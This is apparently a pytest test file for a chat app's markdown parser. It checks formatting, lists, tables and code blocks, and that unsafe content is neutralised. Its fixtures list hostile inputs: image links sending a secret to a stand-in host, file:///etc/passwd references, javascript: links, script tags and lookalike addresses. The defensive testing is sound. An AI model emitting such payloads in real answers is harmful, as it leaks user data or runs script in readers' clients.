"""What an answer may consist of: text in a few styles, and nothing that reaches outside."""

from __future__ import annotations

import pytest

from desktop.chat.markdown_tree import Block, Run, parse_markdown, safe_address, visible_text


def links(text: str) -> list[str]:
    return [run.link for block in parse_markdown(text) for run in block.runs if run.link is not None]


def test_styles_become_runs() -> None:
    (block,) = parse_markdown("A **bold** *italic* ~~struck~~ `code`")
    assert block.runs == (
        Run("A "), Run("bold", bold=True), Run(" "), Run("italic", italic=True), Run(" "), Run("struck", struck=True), Run(" "), Run("code", code=True),
    )  # fmt: skip


def test_lists_know_their_depth_and_number() -> None:
    blocks = parse_markdown("3. three\n   - inner\n4. four")
    assert [(block.indent, block.marker) for block in blocks] == [(1, "3."), (2, "•"), (1, "4.")]


def test_a_second_paragraph_of_an_item_has_no_marker() -> None:
    blocks = parse_markdown("- one\n\n  more")
    assert [(block.indent, block.marker) for block in blocks] == [(1, "•"), (1, None)]


def test_tables_quotations_headings_and_rules() -> None:
    table, quotation, heading, rule = parse_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n> said\n\n## Title\n\n---")
    assert table.rows == (((Run("a"),), (Run("b"),)), ((Run("1"),), (Run("2"),)))
    assert (quotation.quotes, quotation.runs) == (1, (Run("said"),))
    assert (heading.kind, heading.level) == ("heading", 2)
    assert rule.kind == "rule"


def test_code_keeps_its_text_and_language() -> None:
    assert parse_markdown("```Python title\nx = 1\n\ny = 2\n```") == (Block("code", text="x = 1\n\ny = 2", language="python"),)


def test_lines_of_chinese_are_joined_without_a_blank() -> None:
    assert visible_text(parse_markdown("红黑树\n是平衡的\nand so on")) == "红黑树是平衡的 and so on"


@pytest.mark.parametrize(
    "image",
    [
        "![steal](https://evil.example/?q=secret)",
        "![steal](data:image/png;base64,AAAA)",
        "![steal][ref]\n\n[ref]: https://evil.example/?q=secret",
        "![*steal*](//evil.example/x.png)",
    ],
)
def test_an_image_is_only_its_description(image: str) -> None:
    blocks = parse_markdown(image)
    assert "steal" in visible_text(blocks)
    assert "evil.example" not in visible_text(blocks)
    assert links(image) == []


def test_an_image_of_a_local_file_is_text_and_nothing_else() -> None:
    assert visible_text(parse_markdown("![steal](file:///etc/passwd)")) == "![steal](file:///etc/passwd)"
    assert links("![steal](file:///etc/passwd)") == []


@pytest.mark.parametrize(
    "html", ["<img src='https://evil.example/x.png'>", "<script>alert(1)</script>", "<a href='https://evil.example'>x</a>", "<style>@import</style>"]
)
def test_raw_html_is_text(html: str) -> None:
    assert html in visible_text(parse_markdown(f"before {html} after"))
    assert html in visible_text(parse_markdown(html))
    assert links(html) == []


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](file:///etc/passwd)", "[x](data:text/html,hi)",
        "[x](http://plain.example)", "[x](/etc/passwd)",
        "[x](citation:1)", "[x](code:0)", "[x](//evil.example)", "[x](qrc:/x)", "<ftp://a.example>", "<javascript:alert(1)>", "[x](vbscript:x)",
    ],
)  # fmt: skip
def test_a_link_that_is_not_https_is_dead(link: str) -> None:
    assert links(link) == []


def test_an_https_link_keeps_its_address() -> None:
    assert links("[notes](https://example.org/notes?x=1)") == ["https://example.org/notes?x=1"]
    assert links("[![alt](https://evil.example/x.png)](https://example.org/)") == ["https://example.org/"]


@pytest.mark.parametrize(
    "address",
    [
        "https://",
        "https://user@evil.example/",
        "https://a b",
        "https://a\n",
        "http://a",
        "https://[::1",
        "",
        "HTTPS",
        "https://a\u202egro",
        "https://а.example",
    ],
)
def test_odd_addresses_are_not_safe(address: str) -> None:
    assert safe_address(address) is None
